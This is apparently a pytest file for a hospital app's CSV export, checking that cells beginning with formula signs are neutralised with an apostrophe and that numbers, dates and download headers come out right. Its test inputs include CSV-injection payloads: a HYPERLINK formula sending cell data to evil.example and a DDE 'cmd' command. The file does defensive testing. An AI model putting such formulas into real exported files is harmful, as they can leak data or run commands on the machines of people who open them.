"""What is exported is text or a number, whatever was written into it."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest

from bot.web.csv_file import file, safe, written

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
BEFORE = ["", " ", "\u3000", "\u200b", "\ufeff"]
BODIES = ["1+1", 'HYPERLINK("http://evil.example?x="&A1,"点我")', "cmd|' /C calc'!A0", "SUM(A:A)*", "患者"]
FORMULAS = [before + sign + body for before in BEFORE for sign in SIGNS for body in BODIES]


def test_a_formula_is_a_word() -> None:
    [_, *rows] = csv.reader(io.StringIO(written(["h", "h"], [[one, f"患者{one}"] for one in FORMULAS]), newline=""))
    assert rows == [[f"'{one}", f"患者{one}"] for one in FORMULAS]
    assert len(rows) > 200


def test_a_nul_is_a_mark() -> None:
    assert (safe("\0=1"), safe("=\0")) == ("\ufffd=1", "'=\ufffd")


@pytest.mark.parametrize("text", ["", "患者说 =1+1", "a-b", "你好\n=1", "0-1", "'=1", "5@6"])
def test_other_words_stay_as_they_are(text: str) -> None:
    [_, *row] = csv.reader(io.StringIO(written(["h"], [[text, "x"]]), newline=""))
    assert row == [[text, "x"]]


def test_numbers_stay_numbers() -> None:
    lines = written(["a", "b", "c", "d"], [[-12, -1.5, Decimal("-0.01"), None]]).split("\r\n")
    assert lines[1] == '-12,-1.5,-0.01,""'


def test_moments_are_the_hospitals() -> None:
    assert safe(datetime(2026, 11, 23, 0, 30)) == "2026-11-23 08:30:00"
    assert safe(date(2026, 11, 23)) == date(2026, 11, 23)


def test_a_separator_or_a_quote_in_a_cell_splits_nothing() -> None:
    cells = ['x";=1+1', "a,=b", "line\r\n=c", "；=d"]
    [_, row] = csv.reader(io.StringIO(written(["h"] * 4, [cells]), newline=""))
    assert row == cells


def test_it_is_a_download_that_excel_reads() -> None:
    answer = file("查阅记录.csv", ["谁"], [["陈\ud800"]])
    assert answer.data.startswith(b"\xef\xbb\xbf")
    assert (
        answer.headers["Content-Disposition"] == "attachment; filename*=UTF-8''%E6%9F%A5%E9%98%85%E8%AE%B0%E5%BD%95.csv"
    )
    assert answer.mimetype == "text/csv"
